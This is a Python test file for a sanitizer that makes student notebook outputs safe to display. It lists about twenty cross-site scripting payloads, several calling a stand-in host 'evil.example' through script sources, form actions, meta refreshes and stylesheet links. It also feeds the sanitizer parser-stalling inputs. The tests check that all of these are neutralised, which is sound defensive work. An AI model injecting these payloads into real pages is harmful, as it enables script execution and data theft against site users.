"""What students produced comes out harmless, readable and in time."""

from __future__ import annotations

import time

import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_output

from lakelab.feedback.inert import MAX_HTML, inert_html, inert_output

ACTIVE = [
    "<script>steal()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=steal()>",
    '<a href="java\tscript:steal()">x</a>',
    '<a href="javascript:steal()" onclick="steal()">x</a>',
    '<a href="data:text/html;base64,c3RlYWwoKQ==">x</a>',
    '<a href="//evil.example">x</a>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<object data="steal.swf"></object><embed src="steal.swf">',
    '<form action="https://evil.example/steal"><button formaction="javascript:steal()">Next</button></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/steal">',
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/steal.css">',
    '<div style="position: fixed; background: url(https://evil.example/steal)">over everything</div>',
    '<div style="width: expression(steal())">x</div>',
    '<math><mtext><table><mglyph><style><img src="x" onerror="steal()"></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    "<!--><img src=x onerror=steal()>-->",
    "<svg onload=steal()><script>steal()</script>",
    '<p title="&quot; onmouseover=&quot;steal()">x</p>',
    "<scr<script>ipt>steal()</script>",
    '<img src="https://evil.example/steal.png" alt="a plot">',
]


@pytest.mark.parametrize("markup", ACTIVE)
def test_nothing_active_is_left(markup: str) -> None:
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(inert_html(markup), "html.parser")
    for element in soup(True):
        assert element.name in {"a", "p", "div", "img", "table"}, element
        assert not {name for name in element.attrs if name.startswith("on")}
        assert "evil" not in str(element.attrs)
        assert "steal" not in str(element.attrs.get("href", "")) + str(element.attrs.get("style", ""))
        assert element.get("src", "data:image/").startswith("data:image/")


def test_tables_survive_with_their_look() -> None:
    table = (
        '<style scoped>.x {color: red}</style><table border="1" class="dataframe"><thead><tr style="text-align: right;">'
        "<th></th><th>price</th></tr></thead><tbody><tr><th>0</th><td>3 &lt; 4</td></tr></tbody></table>"
    )
    assert inert_html(table) == (
        '<table class="dataframe"><thead><tr style="text-align: right"><th></th><th>price</th></tr></thead>'
        "<tbody><tr><th>0</th><td>3 &lt; 4</td></tr></tbody></table>"
    )


def test_links_and_plain_text_survive() -> None:
    assert inert_html('see <a href="https://spark.apache.org/">Spark</a>') == (
        'see <a href="https://spark.apache.org/">Spark</a>'
    )
    assert inert_html("a < b, c > d & &lt;e&gt;") == "a &lt; b, c &gt; d &amp; &lt;e&gt;"


def test_what_is_left_open_ends_inside_the_output() -> None:
    assert inert_html("</div></main><div><b>bold") == "<div><b>bold</b></div>"


def test_a_drawing_becomes_a_picture() -> None:
    shown = inert_html('before <svg viewBox="0 0 9 9"><circle r="4" onload="steal()"/></svg> after')
    assert shown.startswith('before <img alt="A drawing" src="data:image/svg+xml;base64,')
    assert shown.endswith(" after")
    assert inert_html("<svg><circle r=4></svg>") == "<p>[a drawing that can&#x27;t be shown here]</p>".replace(
        "&#x27;", "'"
    )


@pytest.mark.parametrize(
    "piece",
    ["<b>", "<div>", "<p><b>", "<svg ", "<svg>", "<!--", "<", "&", "<a x='", "</", "<?", "<![CDATA[", "<a/", "<a ="],
)
@pytest.mark.parametrize("end", ["", ">"])
def test_markup_made_to_stall_parsers_takes_no_time(piece: str, end: str) -> None:
    began = time.monotonic()
    inert_html((piece * MAX_HTML)[: MAX_HTML - 1] + end)
    assert time.monotonic() - began < 10


def test_more_than_anybody_reads_is_not_shown() -> None:
    assert "not shown" in inert_html("<td>1</td>" * MAX_HTML)


def _output(**data: object) -> NotebookNode:
    output = new_output("display_data", data={key.replace("__", "/"): value for key, value in data.items()})
    inert_output(output)
    return output


def test_kinds_of_output_that_need_a_script_are_dropped() -> None:
    output = new_output(
        "display_data",
        data={
            "application/javascript": "steal()",
            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
            "text/html": "<b>x</b><script>steal()</script>",
            "text/plain": "x",
        },
        metadata={"text/html": {"isolated": True}},
    )
    inert_output(output)
    assert output.data == {"text/html": "<b>x</b>", "text/plain": "x"}
    assert output.metadata == {}


def test_a_picture_must_be_a_picture() -> None:
    assert _output(image__png='x"><script>steal()</script>').data == {}
    assert _output(image__png="iVBORw0K\nGgo=").data == {"image/png": "iVBORw0K\nGgo="}


def test_only_numbers_pass_as_sizes() -> None:
    output = new_output(
        "display_data", data={"image/png": "iVBO"}, metadata={"image/png": {"width": 640, "height": "1 onload=steal()"}}
    )
    inert_output(output)
    assert output.metadata == {"image/png": {"width": 640}}


def test_long_text_is_shortened_in_the_middle() -> None:
    output = new_output("stream", name="stdout", text="a" * 50_000 + "the end")
    inert_output(output)
    assert len(output.text) < 21_000
    assert "not shown" in output.text
    assert output.text.endswith("the end")
